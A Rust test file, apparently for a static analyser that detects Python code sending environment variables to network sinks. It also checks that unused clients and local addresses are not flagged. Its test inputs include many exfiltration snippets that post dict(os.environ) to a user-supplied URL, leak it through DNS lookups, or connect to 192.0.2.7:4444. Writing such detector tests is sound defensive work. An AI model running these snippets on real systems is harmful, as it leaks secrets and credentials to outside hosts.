//! Network clients and what they send.

use super::*;

#[test]
fn sinks_with_a_run_time_address_count() {
    for sink in [
        "requests.get(u, params=e)",
        "requests.request('GET', u, json=e)",
        "requests.post(u, data=json.dumps(e))",
        "requests.post(u + str(e))",
        "httpx.put(u, json=e)",
        "httpx.stream('POST', u, json=e)",
        "urllib.request.urlopen(u, data=str(e).encode())",
        "urllib.request.urlopen(urllib.request.Request(u, data=str(e).encode()))",
        "urllib.request.urlretrieve(u + repr(e))",
        "socket.create_connection((u, 80)).sendall(str(e).encode())",
        "socket.gethostbyname(f'{e}.example.com')",
        "requests.Session().post(u, json=e)",
        "urllib3.PoolManager().request('POST', u, body=str(e))",
        "http.client.HTTPSConnection(u).request('POST', '/', body=str(e))",
        "smtplib.SMTP(u).sendmail('a', 'b', str(e))",
        "ftplib.FTP(u).storbinary('STOR x', str(e))",
    ] {
        let code = format!(
            "import os, json, requests, httpx, socket, urllib3, smtplib, ftplib\n\
             import urllib.request, http.client\nu = input()\ne = dict(os.environ)\n{sink}\n"
        );
        assert!(leaks(&code), "{sink}");
    }
}

const HEAD: &str =
    "import os, requests, httpx, urllib3, aiohttp, http.client, json\nE = dict(os.environ)\n";

#[test]
fn handles_are_kept() {
    for code in [
        "s = requests.Session()\ns.headers['a'] = 'b'\ns.auth = 1\ns.post(u, json=E)",
        "a = b = requests.Session()\nc = b\nd = c\nd.post(u, json=E)",
        "s = requests.Session()\ns += s.post(u, json=E)",
        "s = requests.Session()\ns.post(u, json=E)\ns = 1",
        "with requests.Session() as s:\n    s.post(u, json=E)",
        "with urllib3.PoolManager() as s:\n    s.request('POST', u, body=E)",
        "with httpx.Client() as s:\n    s.post(u, json=E)",
        "async def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post(u, json=E)",
        "async def f():\n    async with httpx.AsyncClient() as s:\n        await s.post(u, json=E)",
        "if u:\n    s = requests.Session()\n    s.post(u, json=E)",
        "try:\n    s = requests.Session()\n    s.post(u, json=E)\nexcept E2:\n    pass",
        "for x in u:\n    s = requests.Session()\n    s.post(u, json=E)",
        "s = requests.session()\ns.send(E)",
        // Seen although DeerFlow declares that it does not.
        "box = {'s': requests.Session()}\nbox['s'].post(u, json=E)",
        "s = requests.Session()\n[s.post][0](u, json=E)",
        "s = requests.Session()\ngetattr(s, 'post')(u, json=E)",
        "s = requests.Session()\nsend = s.post\nsend(u, json=E)",
        "def make():\n    return requests.Session()\nmake().post(u, json=E)",
        "if u:\n    s = requests.Session()\ns.post(u, json=E)",
        "Ctor = requests.Session\ns = Ctor()\ns.post(u, json=E)",
        "(s := requests.Session()).post(u, json=E)",
        "class A:\n    def __init__(self):\n        self.s = requests.Session()\n    def go(self):\n        self.s.post(u, json=E)",
        "def send(s, d):\n    s.post(u, json=d)\nsend(requests.Session(), E)",
        "async def f(s=requests.Session()):\n    [s2.post(u, json=E) for s2 in [requests.Session()]]",
    ] {
        assert!(leaks(&format!("{HEAD}{code}\n")), "{code}");
    }
}

#[test]
fn what_is_no_handle_is_no_sink() {
    for code in [
        // Constructed and never used; methods that send nothing.
        "s = requests.Session()",
        "s = http.client.HTTPConnection(u)\ns.get(E)\ns.getresponse()",
        "s = requests.Session()\ns.connect(E)\ns.mount('x', E)",
        "s = urllib3.PoolManager()\ns.post(E)",
        "s = aiohttp.ClientSession()\ns.send(E)\ns.connect(E)",
        // Not bound to a client, or no longer.
        "cache = {}\ncache.get(E)\nboard = make()\nboard.post(E)",
        "s = requests.Session()\ns = []\ns.post(E)",
        "s = requests.Session()\nfor s in u:\n    s.post(E)",
        "s = requests.Session()\ns, t = 1, 2\ns.post(E)",
        "s = requests.Session()\nimport json as s\ns.post(E)",
        "s = requests.Session()\ntype s = int\ns.post(E)",
        "s = requests.Session()\n(s := 1)\ns.post(E)",
        "s = requests.Session()\nx: (s := 1) = 2\ns.post(E)",
        "s = requests.Session()\ndel s\ns.post(E)",
        "s = requests.Session()\ndef s(): pass\ns.post(E)",
        // The constructor is not proven.
        "requests = configlib\ns = requests.Session()\ns.post(E)",
        "class requests:\n    class Session: pass\ns = requests.Session()\ns.post(E)",
        // Used as no context manager of its kind.
        "with http.client.HTTPConnection(u) as s:\n    s.request('GET', E)",
        "with aiohttp.ClientSession() as s:\n    s.post(u, json=E)",
        "async def f():\n    async with requests.Session() as s:\n        s.post(u, json=E)",
        "async def f():\n    async with urllib3.PoolManager() as s:\n        s.request('POST', E)",
        // Branches do not leak into each other.
        "if u:\n    s = requests.Session()\nelse:\n    s = make()\ns.post(E)",
        "if u:\n    s = requests.Session()\nelse:\n    s.post(E)",
        "s = make()\nif u:\n    s = requests.Session()\ns.post(E)",
        // Never evaluated.
        "type X = requests.post(u, json=E)",
        "def f[T: requests.post(u, json=E)](): pass",
        "class C[T: requests.post(u, json=E)]: pass",
        "type Y[T: requests.post(u, json=E)] = int",
        // Declared by DeerFlow as not seen, and not seen here either.
        "h.s = requests.Session()\nh.s.post(u, json=E)",
    ] {
        let code = format!("{HEAD}{code}\n");
        assert!(contacts(&lower(&code)).is_empty(), "{code}");
    }
}

#[test]
fn import_without_proof_is_no_sink() {
    assert!(!leaks(
        "import os\ns = requests.Session()\ns.post(dict(os.environ))\n"
    ));
    assert!(!leaks(
        "import os, requests\ndef f():\n    s = requests.Session()\n    s.post(dict(os.environ))\n    requests = 1\n"
    ));
    assert!(!leaks(
        "import os, requests\ndef f():\n    requests.post(u, json=dict(os.environ))\nrequests = fake\n"
    ));
}

#[test]
fn local_addresses_are_told() {
    for code in [
        "import requests\nrequests.get('http://localhost:8080/x')",
        "import requests\nrequests.get('http://127.0.0.1/x')",
        "import socket\nsocket.socket(socket.AF_UNIX)",
        "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 80))\ns.send(b'x')",
        "import http.client\nc = http.client.HTTPConnection('localhost', 80)\nc.request('GET', '/')",
    ] {
        let lowered = lower(code);
        assert!(!lowered.operations.is_empty());
        assert!(contacts(&lowered).is_empty(), "{code}");
    }
    let lowered = lower("import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\n");
    let Some(Act::Contact { address, .. }) = contacts(&lowered).last().map(|last| &last.act) else {
        panic!("no contact");
    };
    assert_eq!(address.text.as_deref(), Some("192.0.2.7:4444"));
}
